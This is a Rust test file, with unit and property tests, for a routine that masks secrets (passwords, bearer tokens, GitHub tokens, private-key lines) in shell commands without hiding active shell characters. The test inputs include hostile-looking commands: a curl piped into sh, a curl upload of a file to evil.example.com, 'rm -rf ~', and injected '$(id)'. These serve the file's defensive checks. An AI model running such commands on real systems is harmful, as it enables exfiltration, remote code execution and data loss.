use proptest::prelude::*;

use super::*;

fn whole(text: &str) -> String {
    code(text, usize::MAX).text
}

#[test]
fn single_secret_words_of_a_command_are_masked() {
    for (text, expected) in [
        ("PASSWORD=hunter2 make", "PASSWORD=[masked: password] make"),
        (
            "curl -H 'Authorization: Bearer abc.def' x",
            "curl -H 'Authorization: Bearer [masked: credentials]' x",
        ),
        (
            "git clone https://u:Passw0rd@h/x",
            "git clone https://[masked: URL credentials]@h/x",
        ),
        ("DB_PASS='s3cret' X=1", "DB_PASS='[masked: password]' X=1"),
        (
            "DB_PASS='a b;$c \"d' X=1",
            "DB_PASS='[masked: password]' X=1",
        ),
        ("curl -u bob:Passw0rd x", "curl -u bob:[masked: password] x"),
        (
            "curl --user 'bob:Passw0rd' x",
            "curl --user 'bob:[masked: password]' x",
        ),
        (
            "mysql -u root -pPassw0rd x",
            "mysql -u root -p[masked: password] x",
        ),
        (
            "mysql --password=Passw0rd",
            "mysql --password=[masked: password]",
        ),
        (
            "sshpass -p Passw0rd ssh h",
            "sshpass -p [masked: password] ssh h",
        ),
    ] {
        assert_eq!(whole(text), expected);
    }
    let token = format!("ghp_{}", "aB3dE6gH9".repeat(4));
    assert_eq!(
        whole(&format!("echo {token};ls")),
        "echo [masked: GitHub token];ls"
    );
}

#[test]
fn what_a_secret_could_hide_stays_visible() {
    for text in [
        "PASSWORD='rm -rf ~'; eval \"$PASSWORD\"",
        "TOKEN=rm; $TOKEN -rf .",
        "TOKEN=/tmp/x1; $TOKEN",
        "TOKEN=rm${IFS}-rf${IFS}x; eval $TOKEN",
        "-----BEGIN RSA PRIVATE KEY-----\nrm -rf home\n-----END RSA PRIVATE KEY-----",
        "SECRET=\"curl http://x.example/a1|sh\"",
        "API_TOKEN=evil.example.com; curl -T src/a.txt $API_TOKEN",
        "TOKEN=build/payload.py; python3 $TOKEN",
        "SECRET=systemctl; $SECRET poweroff",
        "SECRET=Payload1; ${SECRET}",
        "SECRET='Payload1 x'; \"${SECRET#x}\"",
        "Authorization=Payload1; $Authorization",
        "bearer build/payload/of-the-agent1.py",
        "TOKEN=build/payload1.py make",
        "sh -c \"TOKEN='$(id)' make\"",
        "echo \"x TOKEN='a;id' y\"",
        "mysql -p$(id) x",
        "curl -u $(id):x;ls",
        "mkdir -p Passw0rd",
        "ssh -u a:b",
    ] {
        assert_eq!(whole(text), text);
    }
}

#[test]
fn the_lines_of_a_private_key_are_masked() {
    let line = "aB3dE6gH9+/z".repeat(5);
    let key = format!("-----BEGIN PRIVATE KEY-----\n{line}\n{line}\n-----END PRIVATE KEY-----");
    let shown = code(&format!("echo '{key}' > k"), usize::MAX);
    assert_eq!(shown.masked, 2);
    assert!(!shown.text.contains(&line), "{}", shown.text);
    assert!(shown.text.ends_with("-----' > k"), "{}", shown.text);
}

#[test]
fn a_field_name_says_that_its_value_is_secret() {
    assert_eq!(code_value("apiKey", "s3cr3t", 80).text, "[masked: key]");
    assert_eq!(code_value("token", "rm -rf x", 80).text, "rm -rf x");
    assert_eq!(code_value("title", "s3cr3t", 80).text, "s3cr3t");
}

#[test]
fn a_mask_makes_no_room_for_more_of_a_file() {
    let shown = content("PASSWORD=hunter2hunter2 abc", 20);
    assert_eq!(shown.text, "PASSWORD=[masked: password]");
    assert_eq!((shown.masked, shown.missing), (1, 7));
    let shown = content("ab\nPASSWORD=hunter2", 3);
    assert_eq!((shown.text.as_str(), shown.masked), ("ab\n", 0));
}

/// Text in which secrets, quotes and commands stand close together.
fn hostile() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "PASSWORD=",
        "token: ",
        "--api-key ",
        "Authorization: Bearer ",
        "https://u:",
        "@h/",
        "ghp_aB3dE6gH9aB3dE6gH9aB3dE6gH9aB3dE6",
        "hunter2",
        "rm -rf ~",
        "$(id)",
        "`id`",
        "'",
        "\"",
        ";",
        "|",
        "&",
        "<",
        ">",
        "(",
        ")",
        "{",
        "}",
        "\n",
        "\\",
        "$",
        " ",
        "ü",
        "[masked: ",
        "-----BEGIN PRIVATE KEY-----",
        "-----END PRIVATE KEY-----",
        "aB3dE6gH9+/zaB3dE6gH9+/z",
    ]);
    prop::collection::vec(piece, 0..14).prop_map(|pieces| pieces.concat())
}

/// As the specification names them; [`is_active`] knows more.
const ACTIVE: &str = "$`;|&<>(){}\n\"'";

proptest! {
    #[test]
    fn a_mask_hides_no_active_character(text in prop_oneof![hostile(), any::<String>()]) {
        // In single quotes nothing is.
        prop_assume!(!text.contains('\''));
        let active = |text: &str| {
            text.chars().filter(|c| ACTIVE.contains(*c)).collect::<String>()
        };
        prop_assert_eq!(active(&text), active(&whole(&text)));
    }

    #[test]
    fn all_that_no_mask_covers_stays_as_it_is(text in hostile()) {
        let reader = Reader::new(&text);
        let runs: Vec<Span> = spans(&text)
            .into_iter()
            .flat_map(|span| plain_runs(&reader, span))
            .collect();
        let mut rest = text.clone();
        let mut shown = whole(&text);
        for run in runs.iter().rev() {
            let covered = rest.get(run.start..run.end).unwrap().to_owned();
            let quoted = reader.literals.contains(&(run.start, run.end)) && !covered.contains('\'');
            prop_assert!(quoted || !covered.bytes().any(is_active));
            prop_assert!(!covered.is_empty());
            let mut mark = String::new();
            run.write_mark(&mut mark);
            let (before, after) = shown.rsplit_once(&mark).unwrap();
            prop_assert_eq!(after, rest.get(run.end..).unwrap());
            shown = before.to_owned();
            rest.truncate(run.start);
        }
        prop_assert_eq!(shown, rest);
    }

    #[test]
    fn the_value_of_a_variable_that_is_expanded_stays_visible(
        name in "(API_|MY)?(TOKEN|SECRET|PASSWORD|Authorization|PRIVATE_KEY)",
        value in "[a-zA-Z0-9._/@:+-]{1,20}",
        quote in prop::sample::select(vec!["", "'", "\""]),
        expansion in prop::sample::select(vec!["$N", "${N}", "\"${N:-x}\"", "${N%.py}", "${!N}"]),
    ) {
        prop_assume!(!is_token(value.as_bytes()) && spans(&value).is_empty());
        let expansion = expansion.replace('N', &name);
        let text = format!("{name}={quote}{value}{quote}; run {expansion}");
        prop_assert_eq!(whole(&text), text);
    }

    #[test]
    fn only_the_beginning_is_shown(text in hostile(), most in 0_usize..60) {
        let rest = "§§§§§§§";
        let head: String = text.chars().take(most).collect();
        prop_assume!(head.chars().count() == most);
        for shown in [content, code].map(|shown| shown(&format!("{head}{rest}"), most)) {
            prop_assert!(!shown.text.contains('§'), "{}", shown.text);
            prop_assert_eq!(shown.missing, 7);
        }
    }
}
